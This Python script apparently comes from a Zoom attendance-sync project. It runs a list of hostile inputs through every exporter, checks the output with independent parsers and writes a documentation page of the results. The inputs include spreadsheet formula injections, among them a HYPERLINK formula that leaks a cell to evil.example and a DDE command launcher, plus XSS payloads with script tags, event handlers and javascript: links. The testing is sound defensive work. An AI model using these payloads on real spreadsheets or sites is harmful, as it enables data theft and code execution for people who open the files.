"""Tries hostile texts on every exporter, and writes docs/hostile-inputs.md with what came out.

    python docs/hostile.py            write it
    python docs/hostile.py --check    change nothing; exit 1 where the page is not what the exporters do

Each text stands where strangers can put one: as a participant's name, a question, a title, a presenter. What an
exporter wrote is read back by another library, and judged by rules of its own, not by the exporters' own code.
"""

from __future__ import annotations

import csv
import io
import json
import re
import sys
import zipfile
from collections.abc import Callable, Mapping
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import openpyxl
import pyarrow as pa
from defusedxml import ElementTree
from openpyxl.utils.escape import unescape
from pyarrow import parquet

from zoom_sync.adapters.exports.announcement import write_announcement
from zoom_sync.adapters.exports.summary import SUMMARY_WRITERS
from zoom_sync.adapters.exports.tables import ATTENDANCE
from zoom_sync.adapters.exports.workbook import write_workbook
from zoom_sync.adapters.exports.writing import write_table
from zoom_sync.domain.attendance import Attendee, Certainty, Role
from zoom_sync.domain.programme import AgendaItem, Event, Programme, Session
from zoom_sync.domain.publication import Announcement, ReportRow
from zoom_sync.domain.questions import Question, Status
from zoom_sync.domain.summary import EventFigures, figures_of

PAGE = Path(__file__).parent / "hostile-inputs.md"
START = datetime(2023, 11, 6, 12, 30, tzinfo=UTC)
AFTER = "the row after it"

# What each is, and the text.
INPUTS: tuple[tuple[str, str], ...] = (
    ("a formula", "=1+1"),
    ("a formula that is a link", '=HYPERLINK("http://evil.example/?"&A1,"Certificate")'),
    ("a formula that runs a program (DDE)", "=cmd|' /C calc'!A0"),
    ("a telephone number", "+1 415 555 0100"),
    ("begins with a minus", "-1+1"),
    ("begins with an at sign", "@SUM(A1:A9)"),
    ("a tab before a formula", "\t=1+1"),
    ("a carriage return before a formula", "\r=1+1"),
    ("a line feed before a formula", "\n=1+1"),
    ("blanks before a formula", "   =1+1"),
    ("a no-break space before a formula", "\u00a0=1+1"),
    ("a zero-width space before a formula", "\u200b=1+1"),
    ("a byte order mark before a formula", "\ufeff=1+1"),
    ("a quote before a formula", '"=1+1'),
    ("a full-width equals sign", "\uff1d1+1"),
    ("a full-width plus sign", "\uff0b1"),
    ("a full-width minus sign", "\uff0d1"),
    ("a full-width at sign", "\uff20SUM(A1)"),
    ("a formula in a second field", 'Ann","=1+1'),
    ("a formula in a second line", 'Ann"\r\n"=1+1'),
    ("text of a spreadsheet's own XML", "<r><t>=1+1</t></r>"),
    ("a spreadsheet's own escape", "_x003D_1+1"),
    ("a script", "<script>alert(1)</script>"),
    ("an end of a title, then a script", "</title><script>alert(1)</script>"),
    ("a picture with a handler", '"><img src=x onerror=alert(1)>'),
    ("an attribute with a handler", "' onmouseover='alert(1)"),
    ("a template's expression", "{{ 7*7 }}{% raw %}"),
    ("an entity", "&lt;script&gt;"),
    ("a link that is a script", "[click](javascript:alert(1))"),
    ("right-to-left override", "Ann\u202egnp.exe"),
    ("direction isolates", "\u2066Ann\u2069\u200f"),
    ("NUL", "Ann\x00Bo"),
    ("colours for a terminal", "\x1b[31mAnn\x1b[0m"),
    ("half a surrogate pair", "Ann \ud800"),
    ("a byte that is no UTF-8", "caf\udce9"),
    ("what is no character", "Ann\ufffe\uffff"),
    ("10,000 characters", "Why? " * 2000),
    ("more than a cell holds", "x" * 40_000),
    ("an emoji, Chinese, Arabic", "\U0001f642 \u540d\u524d \u0645\u062d\u0645\u062f"),
)

_FORMULA = re.compile(r"[\s\"\u200b\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]|[\t\r\n]")
_DIRECTION = re.compile("[\u200e\u200f\u061c\u202a-\u202e\u2066-\u2069]")
_CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
_HALVES = re.compile("[\ud800-\udfff]")
MOST_IN_CELL = 32_767


class Harmful(AssertionError):
    """A hostile text did what it must not do."""


def must(ruling: object, words: str) -> None:
    """Raises Harmful where a rule is broken."""
    if not ruling:
        raise Harmful(words)


# --- what a text came out as ---------------------------------------------------------------------------------------


def outcome(text: str, read: str) -> str:
    """In words, what an exporter made of a text."""
    if read == text:
        return "as it is"
    if read == _whole(text):
        return "U+FFFD for the half"
    told = []
    bare = read.removeprefix("'")
    if bare != read and not text.startswith("'"):
        told.append("`'` before it")
    if "\u2026" in bare and len(bare) < len(text):
        return "; ".join([*told, "cut, with a note"])
    if _DIRECTION.search(text) or _CONTROL.search(text) or re.search("[\ufffe\uffff]", text):
        told.append("unseen characters out")
    if _HALVES.search(text):
        told.append("U+FFFD for the half")
    if re.search(r"\r", text) and "\n" in bare:
        told.append("line end as a line feed")
    if re.search(r"\s\s|[\r\n\t\u00a0]|^\s|\s$", text) and bare == " ".join(bare.split()):
        told.append("on one line")
    return "; ".join(told) or "as it is"


def _whole(text: str) -> str:
    return _HALVES.sub("\ufffd", text)


def _readable(text: str, read: str) -> None:
    """What is left must still be readable: every letter of the text is there, in order."""
    letters = [one for one in text if one.isalnum()][:200]
    left = iter(read)
    must(all(one in left for one in letters), "letters are lost")


def _quiet(read: str) -> None:
    must(not _DIRECTION.search(read), "a direction mark is left")
    must(not _CONTROL.search(read), "a control character is left")


# --- the exporters, each with how it is read back ------------------------------------------------------------------


def attendee(name: str) -> Attendee:
    """A participant of this name."""
    zero = int(START.timestamp())
    return Attendee(
        "key", name, None, START, START + timedelta(minutes=90), 5400, 5400, 0, 0, 1.0, 1, 1, Certainty.NAME,
        Role.AUDIENCE, phone=False, note=name, intervals=((zero, zero + 5400),),
    )  # fmt: skip


def session(text: str) -> Session:
    """A session with this title, and an item by a presenter of this name."""
    return Session("seminar-1", text, START, START + timedelta(minutes=90), "UTC", items=(AgendaItem(text, text),))


def figures(text: str) -> EventFigures:
    """An event of one session, all of whose texts are this one."""
    asked = Question(text, None, False, text, START, Status.OPEN, (), False)
    one = figures_of(1, session(text), [attendee(text)], [asked], [], most_questions=10)
    return EventFigures(Event("event", text, "UTC"), START, (one,))


def _rows(text: str) -> list[ReportRow[Attendee]]:
    return [ReportRow("seminar-1", "UTC", attendee(one)) for one in (text, AFTER)]


def _table(form: str, text: str) -> bytes:
    out = io.BytesIO()
    write_table(form, ATTENDANCE, _rows(text), out)
    return out.getvalue()


def csv_of(form: str, text: str) -> str:
    """CSV, read back by Python's own reader."""
    encoding = "utf-8-sig" if form == "csv-excel" else "utf-8"
    read = list(csv.DictReader(io.StringIO(_table(form, text).decode(encoding), newline="")))
    must([len(read), read[-1]["name"]] == [2, AFTER], "the rows are not the rows")
    name = read[0]["name"]
    must(not _FORMULA.match(name), "a spreadsheet would run it")
    must(read[0]["note"] == name, "a column is treated otherwise")
    _quiet(name)
    _readable(text, name)
    return name


def xlsx(text: str) -> str:
    """Excel, read back by openpyxl; the file's parts are looked at too."""
    return _workbook(_table("xlsx", text), "attendance", text)


def workbook(text: str) -> str:
    """The event's workbook, where the text is a name and a title."""
    out = io.BytesIO()
    write_workbook(figures(text), [("seminar-1", _rows(text))], out)
    summary = openpyxl.load_workbook(io.BytesIO(out.getvalue()))["summary"]
    must(summary["B2"].data_type == "s", "the title is no text")
    return _workbook(out.getvalue(), "seminar-1", text)


def _workbook(octets: bytes, sheet: str, text: str) -> str:
    with zipfile.ZipFile(io.BytesIO(octets)) as parts:
        for name in parts.namelist():
            tags = [one.tag.rpartition("}")[2] for one in ElementTree.fromstring(parts.read(name)).iter()]
            must(not {"hyperlink", "ddeLink", "externalLink"} & set(tags), f"{name} holds a link")
            must("f" not in tags or name.startswith("xl/charts/"), f"{name} holds a formula")
    rows = list(openpyxl.load_workbook(io.BytesIO(octets))[sheet].iter_rows(min_row=2))
    must([len(rows), rows[-1][1].value] == [2, AFTER], "the rows are not the rows")
    cell = rows[0][1]
    must(cell.data_type == "s", f"a cell of type {cell.data_type}")
    read = unescape(str(cell.value))
    must(len(read.encode("utf-16-le")) // 2 <= MOST_IN_CELL, "longer than a cell may be")
    must(not _FORMULA.match(read), "a spreadsheet would run it, once it is saved as CSV")
    _quiet(read)
    _readable(text, read)
    return read


def json_of(text: str) -> str:
    """JSON, whose texts nothing runs: kept exactly."""
    read = json.loads(_table("json", text))
    must([len(read), read[0]["name"]] == [2, text], "not the text that was given")
    return text


def parquet_of(text: str) -> str:
    """Parquet, whose texts nothing runs: kept but for what UTF-8 cannot hold."""
    # From Arrow's memory: its threads may outlive the interpreter, whose objects they must not hold then.
    octets = pa.BufferReader(_table("parquet", text))
    read = parquet.read_table(octets, use_threads=False, pre_buffer=False)["name"].to_pylist()
    must(read == [_whole(text), AFTER], "not the text that was given")
    return str(read[0])


class _Page(HTMLParser):
    """What a browser would make of a page: its elements, their attributes, its text."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.texts: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += attrs

    def handle_data(self, data: str) -> None:
        self.texts.append(data)


def _html(octets: bytes, harmless: bytes, text: str) -> str:
    page, other = _Page(), _Page()
    page.feed(octets.decode("utf-8", "strict"))
    other.feed(harmless.decode())
    must(page.tags == other.tags, "the text made elements of its own")
    must(not [name for name, _ in page.attributes if name.startswith("on")], "a handler")
    must(not [v for _, v in page.attributes if v and v.startswith("javascript:")], "a link that is a script")
    read = next(one for tag, one in zip(other.texts, page.texts, strict=True) if "Harmless" in tag)
    _quiet(read)
    shown = read.partition(" \u2013 ")[0]
    _readable(text, shown)
    return shown


def summary_html(text: str) -> str:
    """`report summary`, where the text is every text."""
    write = SUMMARY_WRITERS["html"].write
    return _html(write(figures(text), "en"), write(figures("Harmless"), "en"), text)


def announcement_html(text: str) -> str:
    """The announcement, where the text is the event's title, a session's and a presenter."""

    def write(one: str) -> bytes:
        programme = Programme(Event("event", one, "UTC", one), (session(one),))
        return write_announcement("html", Announcement(programme, {}, START))

    return _html(write(text), write("Harmless"), text)


EXPORTERS: Mapping[str, Callable[[str], str]] = {
    "csv": lambda text: csv_of("csv", text),
    "csv-excel": lambda text: csv_of("csv-excel", text),
    "xlsx": xlsx,
    "xlsx of an event": workbook,
    "json": json_of,
    "parquet": parquet_of,
    "summary (HTML)": summary_html,
    "announcement (HTML)": announcement_html,
}

# --- the page ------------------------------------------------------------------------------------------------------

INTRO = """\
<!-- Written by `python docs/hostile.py` from what the exporters do; do not edit. -->

# Hostile inputs

Names of participants, questions and titles are typed by strangers. Each of these texts was given to each exporter and
read back by another library (Python's `csv`, `json` and `html.parser`, openpyxl, pyarrow). In each case the rows after
it are intact and all its letters can still be read. In CSV and Excel no cell is or begins like a formula, and no
direction mark or control character is left; in Excel every text is of the type text, there is no formula, no link, and
nothing longer than a cell may be. In HTML the page has exactly the elements that it has for a harmless text, and the
text is seen as text. JSON and Parquet are for programs, and nothing runs their texts: they keep them as Zoom gave them.

`'` is the apostrophe that spreadsheets know as "this is text". It is part of the cell, so that a sheet saved as CSV and
opened again is as harmless as before. "on one line": line ends, tabs and runs of blanks became one blank, as HTML shows
them anyway.
"""


def shown(text: str) -> str:
    """A text as the table shows it: what cannot be seen as an escape, and a long one in short."""
    short = text if len(text) <= 60 else f"{text[:20]}... ({len(text):,} characters)"  # noqa: PLR2004 - the table's width
    told = "".join(one if one.isprintable() and one != "\\" else ascii(one)[1:-1] for one in short)
    return f"`` {told} ``".replace("|", "\\|")


def table() -> str:
    """Every input on every exporter. Raises Harmful."""
    lines = ["| text | " + " | ".join(EXPORTERS) + " |", "|---" * (len(EXPORTERS) + 1) + "|"]
    for what, text in INPUTS:
        results = [outcome(text, export(text)) for export in EXPORTERS.values()]
        lines.append(f"| {what}: {shown(text)} | " + " | ".join(results) + " |")
    return "\n".join(lines) + "\n"


def page() -> str:
    """The whole page."""
    return f"{INTRO}\n{table()}"


def main(arguments: list[str]) -> Any:
    """Write the page, or say whether it is what it has to be."""
    if "--check" in arguments:
        current = PAGE.exists() and PAGE.read_text(encoding="utf-8") == page()
        return None if current else f"docs/{PAGE.name} is not what the exporters do; `python docs/hostile.py` writes it"
    PAGE.write_text(page(), encoding="utf-8")
    sys.stdout.write(f"docs/{PAGE.name}\n")
    return None


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
